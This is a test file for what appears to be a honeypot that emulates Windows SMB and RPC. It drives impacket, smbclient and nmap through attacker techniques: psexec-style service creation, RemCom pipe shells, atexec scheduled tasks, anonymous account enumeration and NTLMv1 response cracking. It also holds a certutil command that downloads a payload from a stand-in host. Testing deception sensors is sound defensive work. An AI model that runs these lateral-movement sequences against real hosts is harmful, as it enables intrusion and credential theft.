"""Real clients of SMB and DCE/RPC at a whole sensor: smbclient, nmap, and impacket, which attackers use."""

from __future__ import annotations

import asyncio
import hashlib
import io
import re
import struct
import warnings
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from eudaemon.protocols._windows import server_of
from eudaemon.world.host import Host
from eudaemon.world.personas import WINDOWS
from eudaemon.world.seed import Seed
from payload.servers import content, tool
from sensor.harness import SEED, Running, events, running

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from impacket import ntlm
    from impacket.dcerpc.v5 import epm, rpcrt, samr, scmr, transport, tsch
    from impacket.smb import SMB_DIALECT
    from impacket.smb3structs import SMB2_DIALECT_21
    from impacket.smbconnection import SessionError, SMBConnection

USER, PASSWORD = "Administrator", "123456"
PROGRAM = b"MZ" + content(1_500_000)
SERVER = server_of(Host.from_seed(Seed(SEED)))

pytestmark = pytest.mark.filterwarnings("ignore")  # impacket's own


async def in_thread(work: Callable[..., Any], *arguments: Any) -> Any:
    async with asyncio.timeout(30):
        return await asyncio.get_running_loop().run_in_executor(None, work, *arguments)


async def smbclient(net: Running, share: str, commands: str, *options: str) -> str:
    process = await asyncio.create_subprocess_exec(
        tool("smbclient", "smbclient"), "-p", str(net.port), "-U", f"{USER}%{PASSWORD}", *options,
        f"//127.0.0.1/{share}", "-c", commands, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
    )  # fmt: skip
    async with asyncio.timeout(30):
        return (await process.communicate())[0].decode()


@pytest.mark.parametrize(
    "options",
    [("--option=client signing=required",), ("--option=client min protocol=NT1", "-m", "NT1")],
    ids=["smb2", "smb1"],
)
async def test_a_person_with_smbclient(options: tuple[str, ...], tmp_path: Path) -> None:
    sent, got, large = tmp_path / "sent", tmp_path / "got", tmp_path / "large"
    sent.write_bytes(PROGRAM)
    large.write_bytes(content(10_000_000))
    async with running(tmp_path, "smb") as net:
        todo = (
            "ls", "cd Windows\\Temp", "mkdir n", f"put {sent} n\\x.exe", f"get n\\x.exe {got}",
            "rename n\\x.exe n\\y.exe",
            "ls n\\*", "del n\\y.exe", "rmdir n", f"put {large} large",
        )  # fmt: skip
        said = await smbclient(net, "C$", "; ".join(todo), *options)
    assert re.search(r"Windows +D", said), said
    assert re.search(r"y\.exe +A +1500002 ", said), said
    assert "NT_STATUS" not in said
    assert got.read_bytes() == PROGRAM
    kept = {event.fact.name: event.fact for event in events(tmp_path, "artefact.kept")}  # type: ignore[attr-defined]
    for name, data in (("n\\x.exe", PROGRAM), ("large", content(10_000_000))):
        fact = kept[f"C$\\Windows\\Temp\\{name}"]
        assert (fact.sha256, fact.partial) == (hashlib.sha256(data).hexdigest(), False)  # type: ignore[attr-defined]
    (login,) = (event.fact for event in events(tmp_path, "login.tried"))
    assert (login.user, login.password, login.accepted) == (USER, PASSWORD, True)  # type: ignore[attr-defined]
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")


def told_by_impacket(port: int) -> tuple[int, set[str]]:
    made = connected(port, None)
    try:
        return made.getDialect(), {share["shi1_netname"][:-1] for share in made.listShares()}
    finally:
        made.close()


@pytest.mark.parametrize(
    ("release", "newest", "dialect"),
    [("Windows Server 2016 Standard", "SMB3_11", 0x0311), ("Windows Server 2012 R2 Standard", "SMB3_02", 0x0302)],
)
async def test_smb_3_of_a_windows_that_speaks_it(release: str, newest: str, dialect: int, tmp_path: Path) -> None:
    """Both clients sign all that they say; smbclient goes if one answer is not, or the list of mechanisms."""
    seed, server = next(
        (seed, server)
        for seed in (b"a server %d" % number for number in range(99))
        if (server := server_of(Host.from_seed(Seed(seed), persona=WINDOWS))).machine.release.name == release
    )
    sent, got = tmp_path / "sent", tmp_path / "got"
    sent.write_bytes(PROGRAM)
    async with running(tmp_path, "smb", seed=seed, persona=WINDOWS) as net:
        todo = ("ls", "cd Windows\\Temp", f"put {sent} x.exe", f"get x.exe {got}", "ls x*", "del x.exe")
        said = await smbclient(net, "C$", "; ".join(todo), "-m", newest, "--client-protection=sign")
        assert await in_thread(told_by_impacket, net.port) == (
            dialect, {"ADMIN$", "C$", "IPC$", server.share})  # fmt: skip
        for older in ("SMB3_00", "SMB2_10"):
            assert "Windows" in await smbclient(net, "C$", "ls", "-m", older, "--option=client signing=required")
    assert "NT_STATUS" not in said
    assert re.search(r"x\.exe +A +1500002 ", said), said
    assert got.read_bytes() == PROGRAM
    (kept,) = (event.fact for event in events(tmp_path, "artefact.kept") if "x.exe" in event.fact.name)  # type: ignore[attr-defined]
    assert kept.sha256 == hashlib.sha256(PROGRAM).hexdigest()  # type: ignore[attr-defined]
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")


async def test_shares_are_listed_to_nobody(tmp_path: Path) -> None:
    async with running(tmp_path, "smb") as net:
        process = await asyncio.create_subprocess_exec(
            tool("smbclient", "smbclient"),
            "-p",
            str(net.port),
            "-N",
            "-L",
            "//127.0.0.1",
            stdout=asyncio.subprocess.PIPE,
        )
        said = (await process.communicate())[0].decode()
    for share in ("ADMIN$", "C$", "IPC$", SERVER.share):
        assert re.search(rf"\t{re.escape(share)} +(Disk|IPC) ", said), said
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")


def connected(port: int, dialect: Any) -> SMBConnection:
    made = SMBConnection("127.0.0.1", "127.0.0.1", sess_port=port, preferredDialect=dialect, timeout=20)
    made.login(USER, PASSWORD)
    return made


def pipe(connection: SMBConnection, port: int, name: str, interface: Any, *, seals: bool = False) -> Any:
    over = transport.SMBTransport("127.0.0.1", port, name, smb_connection=connection)
    dce = over.get_dce_rpc()
    if seals:
        over.set_credentials(USER, PASSWORD)
        dce.set_credentials(USER, PASSWORD)
        dce.set_auth_level(rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.connect()
    dce.bind(interface)
    return dce


def like_psexec(port: int, dialect: Any) -> None:
    """Upload a program, make a service of it, start it, and go: what psexec and its heirs do."""
    smb = connected(port, dialect)
    assert smb.getServerName() == SERVER.name
    assert {share["shi1_netname"][:-1] for share in smb.listShares()} == {"ADMIN$", "C$", "IPC$", SERVER.share}
    smb.putFile("ADMIN$", "svc.exe", io.BytesIO(PROGRAM).read)
    dce = pipe(smb, port, "\\svcctl", scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    with pytest.raises(scmr.DCERPCSessionError, match="SERVICE_DOES_NOT_EXIST"):
        scmr.hROpenServiceW(dce, manager, "evil\0")
    service = scmr.hRCreateServiceW(
        dce,
        manager,
        "evil\0",
        "evil\0",
        lpBinaryPathName="%systemroot%\\svc.exe -k\0",
        dwStartType=scmr.SERVICE_DEMAND_START,
    )["lpServiceHandle"]
    scmr.hRStartServiceW(dce, service)
    command = 'cmd.exe /c certutil -urlcache -f http://198.51.100.7/b.exe C:\\b.exe & echo "done" > C:\\out.txt\0'
    other = scmr.hRCreateServiceW(dce, manager, "other\0", "other\0", lpBinaryPathName=command)["lpServiceHandle"]
    with pytest.raises(scmr.DCERPCSessionError, match="SERVICE_REQUEST_TIMEOUT"):
        scmr.hRStartServiceW(dce, other)
    tree = smb.connectTree("IPC$")
    psexec = smb.openFile(tree, "\\RemCom_communicaton", 0x12019F)  # what psexec.py's program would listen on
    smb.writeNamedPipe(tree, psexec, b"cmd.exe /c net user".ljust(4096, b"\0") + bytes(260 + 4 + 4 + 260 + 4))
    assert smb.readNamedPipe(tree, psexec, 8) == bytes(8)
    other = smb.openFile(tree, "\\their-own", 0x12019F)
    smb.writeNamedPipe(tree, other, b"do as I say")
    smb.closeFile(tree, other)
    scmr.hRDeleteService(dce, service)
    scmr.hRCloseServiceHandle(dce, service)
    out = io.BytesIO()
    smb.getFile("C$", "out.txt", out.write)
    assert out.getvalue() == b'"done" \r\n'
    smb.deleteFile("ADMIN$", "svc.exe")
    with pytest.raises(SessionError, match="OBJECT_NAME_NOT_FOUND"):
        smb.getFile("ADMIN$", "svc.exe", out.write)
    smb.close()


@pytest.mark.parametrize("dialect", [SMB_DIALECT, SMB2_DIALECT_21], ids=["smb1", "smb2"])
async def test_a_program_is_uploaded_and_started_as_a_service(dialect: Any, tmp_path: Path) -> None:
    async with running(tmp_path, "smb") as net:
        await in_thread(like_psexec, net.port, dialect)
        await net.until("download.finished")
    (kept,) = (event.fact for event in events(tmp_path, "artefact.kept") if "svc.exe" in event.fact.name)  # type: ignore[attr-defined]
    assert kept.sha256 == hashlib.sha256(PROGRAM).hexdigest()  # type: ignore[attr-defined]
    lines = [event.fact.line for event in events(tmp_path, "command.entered")]  # type: ignore[attr-defined]
    assert lines[:2] == ["sc create evil binPath= %systemroot%\\svc.exe -k", "%systemroot%\\svc.exe -k"]
    assert "net user" in lines
    (told,) = (event.fact for event in events(tmp_path, "artefact.kept") if "pipe" in event.fact.name)  # type: ignore[attr-defined]
    assert told.sha256 == hashlib.sha256(b"do as I say").hexdigest()  # type: ignore[attr-defined]
    (wish,) = (event.fact for event in events(tmp_path, "download.wished"))
    assert (wish.url, wish.tool) == ("http://198.51.100.7/b.exe", "certutil")  # type: ignore[attr-defined]
    called = [event.fact.operation for event in events(tmp_path, "rpc.called")]  # type: ignore[attr-defined]
    assert {"NetrShareEnum", "OpenSCManagerW", "CreateServiceW", "StartServiceW", "DeleteService"} <= set(called)
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")


def like_remcom(port: int, dialect: Any) -> None:
    """Psexec's terminal in one thread: who reads before there is something waits, in either dialect."""
    own, typing, reading = (connected(port, dialect) for _ in range(3))
    dce = pipe(own, port, "\\svcctl", scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    scmr.hRCreateServiceW(dce, manager, "x\0", "x\0", lpBinaryPathName="%systemroot%\\x.exe\0")
    trees = [one.connectTree("IPC$") for one in (own, typing, reading)]
    talk = own.openFile(trees[0], "\\RemCom_communicaton", 0x12019F)
    own.writeNamedPipe(trees[0], talk, b"cmd".ljust(4096 + 260 + 4, b"\0") + struct.pack("<I260sI", 9, b"Qq", 0))
    keys = typing.openFile(trees[1], "\\RemCom_stdinQq9", 0x6)
    screen = reading.openFile(trees[2], "\\RemCom_stdoutQq9", 0x1)

    def until(mark: bytes) -> bytes:
        said = b""
        while not said.endswith(mark):
            said += reading.readFile(trees[2], screen, 0, 1024)
        return said

    until(b">")
    with ThreadPoolExecutor(1) as beside:
        later = beside.submit(until, b"System32>")  # which waits for what is typed below
        typing.writeFile(trees[1], keys, b"whoami\r\n")
        assert later.result() == b"whoami\r\nnt authority\\system\r\n\r\nC:\\Windows\\System32>"
        ended = beside.submit(own.readNamedPipe, trees[0], talk, 8)
        typing.writeFile(trees[1], keys, b"exit\r\n")
        until(b"exit\r\n")
        assert ended.result() == bytes(8)


@pytest.mark.parametrize("dialect", [SMB_DIALECT, SMB2_DIALECT_21], ids=["smb1", "smb2"])
async def test_who_reads_from_a_terminal_waits_for_what_comes(dialect: Any, tmp_path: Path) -> None:
    async with running(tmp_path, "smb") as net:
        await in_thread(like_remcom, net.port, dialect)
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")


def like_atexec(port: int) -> None:
    smb = connected(port, SMB2_DIALECT_21)
    dce = pipe(smb, port, "\\atsvc", tsch.MSRPC_UUID_TSCHS, seals=True)
    task = (
        "<Exec><Command>cmd.exe</Command><Arguments>/C whoami &gt; %windir%\\Temp\\t.tmp 2&gt;&amp;1</Arguments></Exec>"
    )
    assert tsch.hSchRpcRegisterTask(dce, "\\t", task, tsch.TASK_CREATE, tsch.NULL, tsch.TASK_LOGON_NONE)["pActualPath"]
    tsch.hSchRpcRun(dce, "\\t")
    tsch.hSchRpcDelete(dce, "\\t")
    out = io.BytesIO()
    smb.getFile("ADMIN$", "Temp\\t.tmp", out.write)
    assert out.getvalue() == b"nt authority\\system\r\n"


def accounts(port: int) -> list[str]:
    """As worms do that try passwords afterwards: nobody asks which accounts there are."""
    smb = SMBConnection("127.0.0.1", "127.0.0.1", sess_port=port, timeout=20)
    smb.login("", "")
    dce = pipe(smb, port, "\\samr", samr.MSRPC_UUID_SAMR)
    server = samr.hSamrConnect(dce)["ServerHandle"]
    domains = [row["Name"] for row in samr.hSamrEnumerateDomainsInSamServer(dce, server)["Buffer"]["Buffer"]]
    assert domains == [SERVER.name, "Builtin"]
    sid = samr.hSamrLookupDomainInSamServer(dce, server, SERVER.name)["DomainId"]
    assert sid.formatCanonical() == SERVER.machine.sid
    domain = samr.hSamrOpenDomain(dce, server, domainId=sid)["DomainHandle"]
    return [row["Name"] for row in samr.hSamrEnumerateUsersInDomain(dce, domain)["Buffer"]["Buffer"]]


async def test_nobody_is_told_which_accounts_there_are(tmp_path: Path) -> None:
    async with running(tmp_path, "smb") as net:
        assert await in_thread(accounts, net.port) == list(SERVER.machine.users)
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")


async def test_a_task_is_made_by_sealed_calls(tmp_path: Path) -> None:
    async with running(tmp_path, "smb") as net:
        await in_thread(like_atexec, net.port)
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")


def with_wrong_password(port: int) -> None:
    made = SMBConnection("127.0.0.1", "127.0.0.1", sess_port=port, timeout=20)
    with pytest.raises(SessionError, match="LOGON_FAILURE"):
        made.login(USER, "a password of which no list knows", "DOMAIN")


async def test_a_response_is_evidence(tmp_path: Path) -> None:
    async with running(tmp_path, "smb") as net:
        await in_thread(with_wrong_password, net.port)
    (login,) = (event.fact for event in events(tmp_path, "login.tried"))
    assert (login.user, login.password, login.accepted) == (USER, None, False)  # type: ignore[attr-defined]
    (given,) = (event.fact for event in events(tmp_path, "ntlm.response"))
    assert re.fullmatch(rf"{USER}::DOMAIN:[0-9a-f]{{16}}:[0-9a-f]{{32}}:0101[0-9a-f]+", given.response)  # type: ignore[attr-defined]


def breaks(line: str, password: str) -> bool:
    """Say whether a password fits a line of hashcat's mode 5500, as hashcat's module has it; the DES is impacket's."""
    _, _, _, lm, nt, challenge = line.split(":")
    answered = bytes.fromhex(challenge)
    if len(lm) == 48 and lm.endswith("0" * 32):
        answered = hashlib.md5(answered + bytes.fromhex(lm[:16])).digest()[:8]
    return ntlm.ntlmssp_DES_encrypt(ntlm.compute_nthash(password), answered).hex() == nt


@pytest.mark.parametrize(
    ("options", "version"),
    [
        (("-m", "SMB2"), "NTLMv1-SSP"),
        (("-m", "NT1", "--option=client min protocol=NT1", "--option=client use spnego=no"), "NTLMv1"),
    ],
    ids=["ssp", "bare"],
)
async def test_the_first_version_of_ntlm_is_read(options: tuple[str, ...], version: str, tmp_path: Path) -> None:
    async with running(tmp_path, "smb") as net:
        said = await smbclient(net, "C$", "ls", "--option=client ntlmv2 auth=no", *options)
    assert "Windows" in said, said
    (given,) = (event.fact for event in events(tmp_path, "ntlm.response"))
    assert given.version == version  # type: ignore[attr-defined]
    assert breaks(given.response, PASSWORD)  # type: ignore[attr-defined]
    assert not breaks(given.response, "another")  # type: ignore[attr-defined]
    (login,) = (event.fact for event in events(tmp_path, "login.tried"))
    assert (login.user, login.password, login.accepted) == (USER, PASSWORD, True)  # type: ignore[attr-defined]
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")


def dumped(port: int) -> list[str]:
    over = transport.DCERPCTransportFactory(f"ncacn_ip_tcp:127.0.0.1[{port}]")
    dce = over.get_dce_rpc()
    dce.connect()
    found = [epm.PrintStringBinding(entry["tower"]["Floors"]) for entry in epm.hept_lookup(None, dce=dce)]
    dce.disconnect()
    return found


async def test_what_the_mapper_has(tmp_path: Path) -> None:
    async with running(tmp_path, "epmap") as net:
        found = await in_thread(dumped, net.port)
    assert len(found) == 15
    assert f"ncacn_np:\\\\{SERVER.name}[\\PIPE\\atsvc]" in found
    assert any(re.fullmatch(r"ncacn_ip_tcp:[0-9.]+\[49\d{3}\]", entry) for entry in found)
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")


SCRIPTS = "smb-os-discovery,smb-protocols,smb-vuln-ms17-010,smb-double-pulsar-backdoor,smb-security-mode,smb2-time"


async def test_nmap_finds_an_unmended_windows(tmp_path: Path) -> None:
    nmap = tool("nmap", "nmap")
    listen = ("smb tcp 445", "epmap tcp 135")
    async with running(tmp_path, "smb", addresses=("127.77.0.2",), port=445, listen=listen):
        scan = await asyncio.create_subprocess_exec(
            nmap, "-Pn", "-n", "-sT", "-sV", "-p", "135,445", "--script", SCRIPTS, "127.77.0.2",
            stdout=asyncio.subprocess.PIPE,
        )  # fmt: skip
        said = (await scan.communicate())[0].decode()
    assert re.search(r"135/tcp open +msrpc +Microsoft (?:Windows )?RPC", said), said
    assert re.search(r"445/tcp open +microsoft-ds +(?:Microsoft )?Windows (?:7|Server 2008 R2)", said), said
    assert "oneypot" not in said
    assert f"OS: {SERVER.system} ({SERVER.lan_manager})" in said, said
    assert f"NetBIOS computer name: {SERVER.name}\\x00" in said
    assert f"Workgroup: {SERVER.workgroup}\\x00" in said
    assert re.search(r"smb-vuln-ms17-010:\s+\|\s+VULNERABLE", said)
    has_backdoor = Host.from_seed(Seed(SEED)).seed.number("doublepulsar", 2) == 0
    assert bool(re.search(r"smb-double-pulsar-backdoor:\s+\|\s+VULNERABLE", said)) is has_backdoor
    assert "NT LM 0.12 (SMBv1)" in said
    assert re.search(r"\|_\s+210", said)
    assert {"ms17-010-check", "doublepulsar"} <= {event.fact.name for event in events(tmp_path, "exploit.recognised")}  # type: ignore[attr-defined]
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")
